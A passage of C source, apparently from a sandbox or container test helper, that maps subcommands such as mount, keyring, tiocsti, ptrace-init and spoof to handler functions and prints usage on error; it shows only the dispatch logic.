	else if (n == 2 && !strcmp(cmd, "mknod"))
		r = cmd_mknod(argv[2], argv[3]);
	else if (n == 2 && !strcmp(cmd, "mount"))
		r = cmd_mount(argv[2], argv[3]);
	else if (n == 1 && !strcmp(cmd, "open-write"))
		r = cmd_open_write(argv[2]);
	else if (n == 1 && !strcmp(cmd, "rewrite"))
		r = cmd_rewrite(argv[2]);
	else if (n == 0 && !strcmp(cmd, "module"))
		r = cmd_module();
	else if (n == 1 && !strcmp(cmd, "kill"))
		r = cmd_kill(argv[2]);
	else if (n == 1 && !strcmp(cmd, "see-pid"))
		r = cmd_see_pid(argv[2]);
	else if (n == 1 && !strcmp(cmd, "see-mount"))
		r = cmd_see_mount(argv[2]);
	else if (n == 0 && !strcmp(cmd, "see-net"))
		r = cmd_see_net();
	else if (n == 2 && !strcmp(cmd, "fd"))
		r = cmd_fd(argv[2], argv[3]);
	else if (n == 0 && !strcmp(cmd, "keyring"))
		r = cmd_keyring();
	else if ((n == 0 || n == 1) && !strcmp(cmd, "cgroup"))
		r = cmd_cgroup(n ? argv[2] : NULL);
	else if ((n == 1 || n == 2) && !strcmp(cmd, "remount"))
		r = cmd_remount(argv[2], n == 2 && !strcmp(argv[3], "sb"));
	else if (n == 0 && !strcmp(cmd, "userns"))
		r = cmd_userns();
	else if (n == 0 && !strcmp(cmd, "masked"))
		r = cmd_masked();
	else if (n == 1 && !strcmp(cmd, "tiocsti"))
		r = cmd_tiocsti(argv[2]);
	else if (n == 0 && !strcmp(cmd, "nonblock"))
		r = cmd_nonblock();
	else if (n == 1 && !strcmp(cmd, "ptrace-init"))
		r = cmd_ptrace_init(argv[2]);
	else if (n == 0 && !strcmp(cmd, "families"))
		r = cmd_families();
	else if (n == 1 && !strcmp(cmd, "ra"))
		r = cmd_ra(argv[2]);
	else if (n == 3 && !strcmp(cmd, "spoof"))
		r = cmd_spoof(argv[2], argv[3], argv[4]);
	else if (n == 2 && !strcmp(cmd, "syscall"))
		r = cmd_syscall(argv[2], argv[3]);
	else if (n == 4 && !strcmp(cmd, "conns"))
		r = cmd_conns(argv[2], argv[3], argv[4], argv[5]);
	if (r < 0) {
		fputs(usage, stderr);
		return EXIT_USAGE;
	}
	return r;
}
